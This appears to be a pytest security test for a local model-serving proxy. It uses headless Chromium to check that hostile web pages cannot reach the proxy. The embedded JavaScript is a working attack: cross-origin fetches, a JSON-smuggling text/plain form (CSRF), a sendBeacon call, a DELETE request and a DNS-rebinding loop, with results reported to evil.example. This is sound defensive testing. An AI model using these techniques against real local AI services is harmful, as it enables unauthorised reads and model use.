"""Web pages of other origins, and one that rebinds its name, in Chromium: none may read anything or make a model work.

The pages come from this machine, so that the browser's own guard (it asks before a page of the internet may reach this
machine) does not stand before the proxy's. Debian's package `chromium-headless-shell` is enough.
"""

import json
import queue
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

import harness

CHROMIUM = next(filter(None, map(shutil.which, ["chromium-headless-shell", "chromium", "google-chrome"])), None)
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (chromium-headless-shell)")

PATHS = ["/health", "/v1/models", "/metrics", "/api/tags", "/api/ps", "/ready"]
CHAT = {"model": "text", "messages": [{"role": "user", "content": "hi"}]}
# What the official SDKs add in a browser.
SDK = {"Content-Type": "application/json", "X-Stainless-Lang": "js", "Anthropic-Version": "2023-06-01"}

# Tries all it can against `target` (its own origin where that is empty) and tells the teller what came of it.
SCRIPT = """
const results = {};
async function attempt(name, url, options) {
    try {
        const reply = await fetch(target + url, {cache: "no-store", ...options});
        const text = await reply.text();
        results[name] = reply.type == "opaque" ? "opaque" : reply.status + " " + text.slice(0, 300);
    } catch (error) { results[name] = "unreadable"; }
}
async function everything() {
    for (const path of paths) await attempt("GET " + path, path, {});
    for (const path of paths) await attempt("opaque " + path, path, {mode: "no-cors"});
    const simple = {method: "POST", body: JSON.stringify(chat), headers: {"Content-Type": "text/plain"}};
    await attempt("simple", "/v1/chat/completions", simple);
    await attempt("blind", "/v1/chat/completions", {...simple, mode: "no-cors"});
    await attempt("native", "/api/chat", {...simple, mode: "no-cors"});
    await attempt("preflight", "/v1/chat/completions", {...simple, headers: sdk});
    await attempt("delete", "/api/delete", {method: "DELETE", body: JSON.stringify({model: "text"})});
    navigator.sendBeacon(target + "/v1/chat/completions", new Blob([JSON.stringify(chat)], {type: "text/plain"}));
    // A form of text/plain is JSON where its name and its value are chosen so.
    const frame = document.createElement("iframe");
    frame.name = "answer";
    const form = document.createElement("form");
    form.action = target + "/v1/chat/completions";
    Object.assign(form, {method: "post", enctype: "text/plain", target: "answer"});
    const field = document.createElement("input");
    field.name = JSON.stringify(chat).slice(0, -1) + ', "user": "';
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    const answered = new Promise(resolve => { frame.onload = resolve; });
    form.submit();
    await Promise.race([answered, new Promise(resolve => setTimeout(resolve, 3000))]);
    await tell();
}
const tell = () => fetch(teller, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
"""


class Site:
    """A web site on loopback that serves one page and hears what its scripts tell."""

    def __init__(self):
        self.page = b""
        self.served = threading.Event()
        self.told = queue.Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/page":
                    self.reply(site.page)
                    site.served.set()
                else:
                    self.send_error(404)

            def do_POST(self):
                site.told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.reply(b"")

            def reply(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *arguments):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def show(self, teller, target, start):
        values = {"target": target, "teller": teller, "paths": PATHS, "chat": CHAT, "sdk": SDK}
        constants = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in values.items())
        self.page = f"<!doctype html><title>page</title><body><script>{constants}{SCRIPT}{start}</script>".encode()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def site():
    site = Site()
    yield site
    site.close()


@pytest.fixture
def browse(tmp_path):
    """Opens a page; every name that ends in `.example` is this machine."""
    started = []

    def browse(url):
        options = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
        options += ["--disable-background-networking", f"--user-data-dir={tmp_path / 'browser'}"]
        options += ["--host-resolver-rules=MAP *.example 127.0.0.1"]
        # A port to debug by keeps it open.
        options += ["--headless", "--remote-debugging-port=0", url]
        env = harness.environment(tmp_path, NO_PROXY=".example,127.0.0.1")
        with (tmp_path / "browser.log").open("wb") as log:
            streams = {"stdin": subprocess.DEVNULL, "stdout": log, "stderr": log}
            started.append(subprocess.Popen([CHROMIUM, *options], env=env, start_new_session=True, **streams))

    yield browse
    for process in started:
        harness.kill_group(process)


@pytest.fixture
def start_proxy(ollama, servers, tmp_path):
    """As in the image: on every address, with defaults."""
    started = []

    def start(port=None, **settings):
        server, url = harness.start_proxy(tmp_path, ollama.url, port, HOST="0.0.0.0", **settings)
        started.append(server)
        servers.append(server)
        harness.forget_start(ollama)
        return server, url

    yield start
    for server in started:
        server.kill()


def paths(scripted):
    return [request.path for request in scripted.requests]


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1"])
@pytest.mark.parametrize("sandboxed", [False, True])
def test_a_page_of_another_origin_reads_nothing_and_runs_nothing(ollama, start_proxy, site, browse, host, sandboxed):
    server, url = start_proxy()
    site.show(f"http://{host}:{site.port}/told", url, "everything()")
    if sandboxed:
        # Its origin is `null`.
        inner = json.dumps(site.page.decode()).replace("</", "<\\/")
        site.page = f"""<!doctype html><body><script>
            const frame = document.createElement("iframe");
            frame.sandbox = "allow-scripts allow-forms";
            frame.srcdoc = {inner};
            document.body.append(frame);</script>""".encode()
    browse(f"http://{host}:{site.port}/page")
    results = site.told.get(timeout=30)
    for name, result in results.items():
        assert result in ("unreadable", "opaque"), f"{name}: {result}"
    assert results["simple"] == results["preflight"] == "unreadable"
    assert server.stop() == 0
    # Not even by what an image or a script asks, which carries no origin.
    assert paths(ollama) == []


def test_a_page_of_an_allowed_origin_reads_and_runs(ollama, start_proxy, site, browse):
    """That the page above is able to, and that a browser's preflight lets the headers of SDKs through."""
    origin = f"http://page.example:{site.port}"
    server, url = start_proxy(CORS_ORIGINS=origin)
    site.show(f"{origin}/told", url, "everything()")
    browse(f"{origin}/page")
    results = site.told.get(timeout=30)
    assert results["GET /v1/models"].startswith("200 ") and '"glm-5:cloud"' in results["GET /v1/models"]
    assert results["preflight"].startswith("200 ")
    assert server.stop() == 0
    assert len(ollama.chats("text")) == 6, "simple, blind, native, preflight, beacon and form"


@pytest.mark.parametrize("allowed", [None, "*"])
def test_a_page_that_rebinds_its_name_reads_nothing_and_runs_nothing(ollama, start_proxy, site, browse, allowed):
    """The same name and port lead to the page's own server first, and to the proxy when the page has come."""
    own = Site()
    # The same origin now and later; what it tells goes elsewhere.
    own.show(f"http://evil.example:{site.port}/told", "", """
        (async function wait() {
            await attempt("GET /health", "/health", {});
            if (/^(unreadable|404)/.test(results["GET /health"])) setTimeout(wait, 50);
            else await everything();
        })()""")  # fmt: skip
    browse(f"http://rebound.example:{own.port}/page")
    assert own.served.wait(60)
    own.close()
    settings = {"ALLOWED_HOSTS": allowed} if allowed else {}
    server, _ = start_proxy(own.port, **settings)
    results = site.told.get(timeout=30)
    if allowed:
        # The check is off: this is what it keeps pages from.
        assert results["GET /v1/models"].startswith("200 ") and '"glm-5:cloud"' in results["GET /v1/models"]
    else:
        for name, result in results.items():
            assert result.startswith("403 ") or result in ("unreadable", "opaque"), f"{name}: {result}"
        assert "ALLOWED_HOSTS" in results["GET /v1/models"]
        assert paths(ollama) == []
    assert server.stop() == 0
    assert not ollama.chats("text")
